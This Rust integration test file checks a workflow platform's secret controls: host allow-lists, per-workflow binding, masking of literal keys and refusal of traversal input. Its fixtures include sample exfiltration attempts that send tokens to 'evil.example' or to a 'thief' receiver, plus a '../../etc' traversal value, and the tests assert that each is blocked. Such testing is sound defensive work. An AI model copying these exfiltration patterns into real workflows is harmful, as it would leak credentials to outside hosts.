//! Secrets of a whole server: who may use them, where they go, and what a publish says of it.

use axum::http::StatusCode;
use flowgate_outbound::OutboundSettings;
use flowgate_tests::receiver::Receiver;
use flowgate_tests::server::{ADMIN_KEY, TestServer, outbound_settings, settings};
use reqwest::Method;
use serde_json::{Value, json};

const SECRET: &str = "t0p-secret-value";

async fn put_secret(server: &TestServer, name: &str, secret: Value) {
    let put = server.request(Method::PUT, &format!("/v1/secrets/{name}"), ADMIN_KEY).json(&secret);
    let answer = put.send().await.unwrap();
    assert_eq!(answer.status(), 204, "{}", answer.text().await.unwrap());
}

/// Returns the problems of the draft.
async fn save(server: &TestServer, key: &str, id: &str, document: &str) -> Vec<Value> {
    let put = server
        .request(Method::PUT, &format!("/v1/workflows/{id}"), key)
        .header("content-type", "application/yaml")
        .body(document.to_owned());
    let answer: Value = put.send().await.unwrap().json().await.unwrap();
    answer["problems"].as_array().unwrap_or_else(|| panic!("{answer}")).clone()
}

async fn publish(server: &TestServer, key: &str, id: &str) -> (StatusCode, Value) {
    let path = format!("/v1/workflows/{id}/versions");
    let answer = server.post(&path, key).json(&json!({})).send().await.unwrap();
    (answer.status(), answer.json().await.unwrap())
}

/// Runs the workflow and returns the run.
async fn run(server: &TestServer, id: &str, input: Value) -> Value {
    let start = server.post(&format!("/v1/workflows/{id}/runs"), ADMIN_KEY);
    start.json(&json!({ "input": input })).send().await.unwrap().json().await.unwrap()
}

fn errors(problems: &[Value]) -> Vec<(&str, &str)> {
    let errors = problems.iter().filter(|problem| problem["severity"] == "error");
    errors
        .map(|problem| (problem["path"].as_str().unwrap(), problem["message"].as_str().unwrap()))
        .collect()
}

async fn deliveries(server: &TestServer, run: &Value) -> Vec<Value> {
    let path =
        format!("/v1/runs/{}/deliveries", run["id"].as_str().unwrap_or_else(|| panic!("{run}")));
    let answer: Value = server.get(&path, ADMIN_KEY).send().await.unwrap().json().await.unwrap();
    answer["items"].as_array().unwrap_or_else(|| panic!("{answer}")).clone()
}

/// Waits for the first attempt of the run's delivery.
async fn tried_delivery(server: &TestServer, run: &Value) -> Value {
    for _ in 0..500 {
        let found = deliveries(server, run).await.remove(0);
        if found["attempts"].as_array().is_some_and(|attempts| !attempts.is_empty()) {
            return found;
        }
        tokio::time::sleep(std::time::Duration::from_millis(20)).await;
    }
    panic!("nothing was tried: {:?}", deliveries(server, run).await);
}

const MOVED: [(&str, &str); 6] = [
    (
        "/nodes/0/headers/authorization",
        "nodes: [{ id: a, type: http, url: 'http://<api.input.t>.example.com/', headers: { \
            authorization: 'Bearer {{TOKEN}}' } }]",
    ),
    (
        "/nodes/0/body/k",
        "nodes: [{ id: a, type: http, method: POST, url: '<api.input.u>', body: { k: \
            '{{TOKEN}}' } }]",
    ),
    (
        "/nodes/0/api_key",
        "nodes: [{ id: a, type: agent, model: openai/m, prompt: x, base_url: <api.input.u>, \
            api_key: '{{TOKEN}}' }]",
    ),
    (
        "/nodes/0/api_key",
        "nodes: [{ id: a, type: agent, model: '<api.input.m>', prompt: x, api_key: '{{TOKEN}}' }]",
    ),
    (
        "/nodes/0/signature",
        "nodes: [{ id: a, type: webhook, url: 'https://example.com:<api.input.p>/', signature: \
            '{{TOKEN}}' }]",
    ),
    (
        "/webhook/signature",
        "nodes: [{ id: a, type: template, template: '<api.input.u>' }]\nwebhook: { url: \
            '<a.content>/x', signature: 's {{TOKEN}}' }",
    ),
];

#[tokio::test]
async fn a_reference_in_the_host_of_a_secret_is_an_error_at_publish() {
    let server = TestServer::start().await;
    put_secret(&server, "TOKEN", json!({ "value": SECRET })).await;
    put_secret(&server, "OPENAI_API_KEY", json!({ "value": SECRET })).await;
    let implicit = (
        "/nodes/0",
        "nodes: [{ id: a, type: agent, model: openai/m, prompt: x, base_url: \
            'https://<api.input.h>/v1' }]",
    );
    for (path, document) in MOVED.into_iter().chain([implicit]) {
        let problems = save(&server, ADMIN_KEY, "w", document).await;
        let errors = errors(&problems);
        assert_eq!(errors.len(), 1, "{document}: {problems:?}");
        assert_eq!(errors[0].0, path, "{document}");
        assert!(errors[0].1.contains("a reference decides the host"), "{document}: {errors:?}");
        assert_eq!(publish(&server, ADMIN_KEY, "w").await.0, 422, "{document}");
    }
    let hosts = json!(["*.example.com", "example.com:8443", "api.openai.com"]);
    for name in ["TOKEN", "OPENAI_API_KEY"] {
        put_secret(&server, name, json!({ "value": SECRET, "hosts": hosts })).await;
    }
    for (_, document) in MOVED.into_iter().chain([implicit]) {
        assert_eq!(save(&server, ADMIN_KEY, "w", document).await, [] as [Value; 0], "{document}");
        assert!(publish(&server, ADMIN_KEY, "w").await.0.is_success());
    }
    let elsewhere = "nodes: [{ id: a, type: http, url: 'https://evil.example/?k={{TOKEN}}' }]";
    let problems = save(&server, ADMIN_KEY, "w", elsewhere).await;
    assert_eq!(
        errors(&problems),
        [("/nodes/0/url", "the secret TOKEN may not be sent to this host")]
    );
}

/// What a caller's input cannot do, whatever an earlier release let be published.
#[tokio::test]
async fn a_secret_never_arrives_where_a_caller_leads_it() {
    let server = TestServer::start().await;
    let (mine, thief) = (Receiver::ok().await, Receiver::ok().await);
    let host = mine.url.strip_prefix("http://").unwrap();
    // Published while the secrets named hosts, which are then taken away.
    for name in ["TOKEN", "OPENAI_API_KEY"] {
        put_secret(&server, name, json!({ "value": SECRET, "hosts": [host] })).await;
    }
    let mut ids = Vec::new();
    for (index, (_, document)) in MOVED.into_iter().enumerate() {
        let document = document
            .replace("'http://<api.input.t>.example.com/'", "'http://<api.input.h>/x'")
            .replace("'https://example.com:<api.input.p>/'", "'http://<api.input.h>/x'");
        let id = format!("w{index}");
        server.publish(&id, &document).await;
        ids.push(id);
    }
    put_secret(&server, "TOKEN", json!({ "value": SECRET })).await;
    put_secret(&server, "OPENAI_API_KEY", json!({ "value": SECRET })).await;
    let thief_host = thief.url.strip_prefix("http://").unwrap();
    for id in &ids {
        let input = json!({ "h": thief_host, "u": thief.url, "m": "openai/m" });
        let ended = run(&server, id, input).await;
        match ended["status"].as_str() {
            Some("failed") => assert_eq!(ended["error"]["code"], "refused_secret", "{ended}"),
            _ => {
                let delivery = tried_delivery(&server, &ended).await;
                let error = delivery["attempts"][0]["error"].as_str().unwrap_or_default();
                assert!(error.contains("the secret TOKEN may not be sent"), "{delivery}");
            }
        }
        assert!(!ended.to_string().contains(SECRET));
    }
    tokio::time::sleep(std::time::Duration::from_millis(300)).await;
    assert_eq!(thief.received().len(), 0, "{:?}", thief.received());
}

#[tokio::test]
async fn a_reference_stays_in_its_place_in_a_url() {
    let server = TestServer::start().await;
    let receiver = Receiver::ok().await;
    put_secret(&server, "TOKEN", json!({ "value": SECRET })).await;
    let document = format!(
        "nodes:\n  - {{ id: a, type: http, url: '{0}/p/<api.input.v>?q=<api.input.v>&r=1', \
            query: {{ s: <api.input.v> }}, headers: {{ x-t: '{{{{TOKEN}}}}' }} }}\n  - {{ id: \
            b, type: webhook, after: [a], url: '{0}/hook/<api.input.v>', body: x }}\nwebhook: \
            {{ url: '{0}/end/<api.input.v>' }}\n",
        receiver.url
    );
    server.publish("w", &document).await;
    run(&server, "w", json!({ "v": "../../etc?x#y&z=1" })).await;
    receiver.until(|all| all.len() == 3).await;
    let mut uris: Vec<String> =
        receiver.received().iter().map(|received| received.uri.to_string()).collect();
    uris.sort();
    let value = "..%2F..%2Fetc%3Fx%23y%26z%3D1";
    assert_eq!(
        uris,
        [
            format!("/end/{value}"),
            format!("/hook/{value}"),
            format!("/p/{value}?q={value}&r=1&s=..%2F..%2Fetc%3Fx%23y%26z%3D1"),
        ]
    );
    let failed = run(&server, "w", json!({ "v": ".." })).await;
    assert_eq!(failed["error"]["code"], "invalid_url", "{failed}");
}

#[tokio::test]
async fn a_key_for_one_workflow_reads_no_secret_of_the_platform() {
    let server = TestServer::start().await;
    let thief = Receiver::ok().await;
    put_secret(&server, "OPENAI_API_KEY", json!({ "value": SECRET })).await;
    let author = server.key(&["w"], &["author", "run", "read"]).await;
    for document in [
        format!("nodes: [{{ id: a, type: http, url: '{}/?k={{{{OPENAI_API_KEY}}}}' }}]", thief.url),
        "nodes: [{ id: a, type: agent, model: openai/gpt-5-mini, prompt: hi }]".to_owned(),
        format!(
            "nodes: [{{ id: a, type: template, template: x }}]\nwebhook: {{ url: '{}', \
                signature: '{{{{OPENAI_API_KEY}}}}' }}",
            thief.url
        ),
    ] {
        let problems = save(&server, &author, "w", &document).await;
        let found = errors(&problems);
        assert_eq!(found.len(), 1, "{problems:?}");
        assert!(found[0].1.contains("may not use the secret OPENAI_API_KEY"), "{found:?}");
        let (status, refusal) = publish(&server, &author, "w").await;
        assert_eq!(status, 422, "{refusal}");
        // The operator may publish the same.
        assert_eq!(publish(&server, ADMIN_KEY, "w").await.0, 201);
    }

    // Refused when it runs, too: the secret is bound to another workflow after the publish.
    let document =
        format!("nodes: [{{ id: a, type: http, url: '{}/?k={{{{OPENAI_API_KEY}}}}' }}]", thief.url);
    put_secret(&server, "OPENAI_API_KEY", json!({ "value": SECRET, "workflows": ["w"] })).await;
    assert_eq!(save(&server, &author, "w", &document).await, [] as [Value; 0]);
    let (status, version) = publish(&server, &author, "w").await;
    assert_eq!((status.as_u16(), &version["secrets"]), (201, &json!(["OPENAI_API_KEY"])));
    server.settle().await;
    assert_eq!(run(&server, "w", json!({})).await["status"], "succeeded");
    assert_eq!(thief.received().len(), 1);
    for workflows in [json!(["other"]), Value::Null] {
        put_secret(&server, "OPENAI_API_KEY", json!({ "value": SECRET, "workflows": workflows }))
            .await;
        let failed = run(&server, "w", json!({})).await;
        assert_eq!(failed["error"]["code"], "refused_secret", "{failed}");
    }
    assert_eq!(thief.received().len(), 1);
    // Publishing the same document as the operator makes a version that may.
    assert_eq!(publish(&server, &author, "w").await.0, 422);
    assert_eq!(publish(&server, ADMIN_KEY, "w").await.0, 201);
    server.settle().await;
    assert_eq!(run(&server, "w", json!({})).await["status"], "succeeded");
    assert_eq!(publish(&server, ADMIN_KEY, "w").await.0, 200, "nothing has changed since");
}

#[tokio::test]
async fn a_version_names_the_secrets_that_it_uses() {
    let server = TestServer::start().await;
    let document = "nodes:\n  - { id: a, type: http, url: 'https://example.com/{{B}}?x={{A}}' \
        }\n  - { id: m, type: agent, model: google/gemini-x, prompt: hi }\n";
    save(&server, ADMIN_KEY, "w", document).await;
    let (_, version) = publish(&server, ADMIN_KEY, "w").await;
    assert_eq!(version["secrets"], json!(["A", "B", "GEMINI_API_KEY"]));
    let list: Value = server
        .get("/v1/workflows/w/versions", ADMIN_KEY)
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    assert_eq!(list["items"][0]["secrets"], version["secrets"]);
}

#[tokio::test]
async fn a_secret_shows_where_it_may_go_and_refuses_what_is_no_host() {
    let server = TestServer::start().await;
    let put = async |secret: Value| {
        let put = server.request(Method::PUT, "/v1/secrets/A", ADMIN_KEY).json(&secret);
        let answer = put.send().await.unwrap();
        (answer.status().as_u16(), answer.text().await.unwrap())
    };
    for (secret, pointer) in [
        (json!({ "value": "x", "hosts": ["https://a.example/"] }), "/hosts/0"),
        (json!({ "value": "x", "hosts": ["a.example", 7] }), "/hosts/1"),
        (json!({ "value": "x", "workflows": [] }), "/workflows"),
        (json!({ "value": "x", "workflows": "all" }), "/workflows"),
    ] {
        let (status, text) = put(secret.clone()).await;
        assert!(status == 400 && text.contains(pointer), "{secret}: {status} {text}");
    }
    for (secret, expected) in [
        (json!({ "value": "x" }), json!([[], null])),
        (
            json!({ "value": "x", "hosts": ["API.example.com"], "workflows": "*" }),
            json!([["api.example.com"], "*"]),
        ),
        (json!({ "value": "x", "workflows": ["w"] }), json!([[], ["w"]])),
    ] {
        assert_eq!(put(secret).await.0, 204);
        let shown: Value =
            server.get("/v1/secrets/A", ADMIN_KEY).send().await.unwrap().json().await.unwrap();
        assert_eq!(json!([shown["hosts"], shown["workflows"]]), expected);
    }
}

#[tokio::test]
async fn keys_in_a_document_are_a_warning_and_masked() {
    let server = TestServer::start().await;
    let receiver = Receiver::start(|request, _| {
        let key = request.headers["authorization"].to_str().unwrap().to_owned();
        flowgate_tests::receiver::Reply::Now(StatusCode::OK, json!({ "you": key }).to_string())
    })
    .await;
    let key = "l1teral-key-0123456789";
    let document = format!(
        "nodes:\n  - {{ id: a, type: http, url: '{0}', headers: {{ authorization: 'Bearer \
            {key}' }} }}\n  - {{ id: m, type: agent, model: offline/echo, api_key: {key}, \
            prompt: 'Bearer {key}' }}\n",
        receiver.url
    );
    let problems = save(&server, ADMIN_KEY, "w", &document).await;
    let found: Vec<_> = problems
        .iter()
        .map(|problem| (problem["severity"].as_str().unwrap(), problem["path"].as_str().unwrap()))
        .collect();
    assert_eq!(
        found,
        [
            ("warning", "/nodes/0/headers/authorization"),
            ("warning", "/nodes/1/api_key"),
            ("warning", "/nodes/1/prompt"),
        ]
    );
    assert!(!problems.iter().any(|problem| problem.to_string().contains(key)), "{problems:?}");
    assert_eq!(publish(&server, ADMIN_KEY, "w").await.0, 201);
    let ended = run(&server, "w", json!({})).await;
    assert_eq!(ended["status"], "succeeded", "{ended}");
    assert_eq!(receiver.received()[0].headers["authorization"], format!("Bearer {key}"));
    let id = ended["id"].as_str().unwrap();
    for path in
        [format!("/v1/runs/{id}"), format!("/v1/runs/{id}/trace"), format!("/v1/runs/{id}/events")]
    {
        let shown = server.get(&path, ADMIN_KEY).send().await.unwrap().text().await.unwrap();
        assert!(!shown.contains(key), "{path}: {shown}");
        assert!(shown.contains("***"), "{path}: {shown}");
    }
}

#[tokio::test]
async fn headers_that_frame_or_sign_are_refused_at_publish() {
    let server = TestServer::start().await;
    for (path, document) in [
        (
            "/nodes/0/headers",
            "nodes: [{ id: a, type: http, url: 'https://example.com/', headers: { HOST: x } }]",
        ),
        (
            "/nodes/0/headers",
            "nodes: [{ id: a, type: webhook, url: 'https://example.com/', headers: { \
                Webhook-Signature: x } }]",
        ),
        (
            "/webhook/headers",
            "nodes: [{ id: a, type: template, template: x }]\nwebhook: { url: \
                'https://example.com/', headers: { content-length: 3 } }",
        ),
    ] {
        let problems = save(&server, ADMIN_KEY, "w", document).await;
        let found = errors(&problems);
        assert!(found.len() == 1 && found[0].0 == path, "{document}: {problems:?}");
        assert!(found[0].1.contains("may not be set"), "{found:?}");
        assert_eq!(publish(&server, ADMIN_KEY, "w").await.0, 422);
    }
}

#[tokio::test]
async fn a_webhook_url_that_does_not_parse_ends_its_delivery_at_once() {
    let server = TestServer::start().await;
    for document in [
        "nodes: [{ id: a, type: webhook, url: '<api.input.u>', body: x }]",
        "nodes: [{ id: a, type: template, template: x }]\nwebhook: { url: '<api.input.u>' }",
        "nodes: [{ id: a, type: webhook, url: 'https://example.com/p/<api.input.dots>/', body: \
            x }]",
    ] {
        server.publish("w", document).await;
        let ended = run(&server, "w", json!({ "u": "not a url", "dots": ".." })).await;
        let delivery = tried_delivery(&server, &ended).await;
        assert_eq!(
            (&delivery["status"], delivery["attempts"].as_array().unwrap().len()),
            (&json!("exhausted"), 1),
            "{delivery}"
        );
        assert!(delivery["attempts"][0]["error"].as_str().unwrap().contains("URL"), "{delivery}");
    }
}

/// As `serve` has it while it listens on loopback.
#[tokio::test]
async fn the_loopback_allowance_covers_authors_urls_only() {
    let outbound = OutboundSettings {
        allow_loopback: false,
        allow_authors_loopback: true,
        ..outbound_settings()
    };
    let server = TestServer::start_calling_out(settings(|_| {}), outbound).await;
    let receiver = Receiver::ok().await;
    let document = format!(
        "nodes:\n  - {{ id: a, type: http, url: '{0}/node' }}\n  - {{ id: b, type: http, url: \
            '<api.input.u>', after: [a] }}\nwebhook: {{ url: '{0}/hook' }}\n",
        receiver.url
    );
    server.publish("w", &document).await;
    let ended = run(&server, "w", json!({ "u": format!("{}/given", receiver.url) })).await;
    assert_eq!(ended["error"]["code"], "refused_address", "{ended}");
    receiver.until(|all| all.len() == 2).await;
    assert_eq!(
        (receiver.count("/node"), receiver.count("/hook"), receiver.count("/given")),
        (1, 1, 0)
    );
    let hook = json!({ "webhooks": [{ "url": format!("{}/caller", receiver.url) }] });
    let refused = server.post("/v1/workflows/w/runs", ADMIN_KEY).json(&hook).send().await.unwrap();
    assert_eq!(refused.status(), 400);
    assert!(refused.text().await.unwrap().contains("/webhooks/0/url"));
}
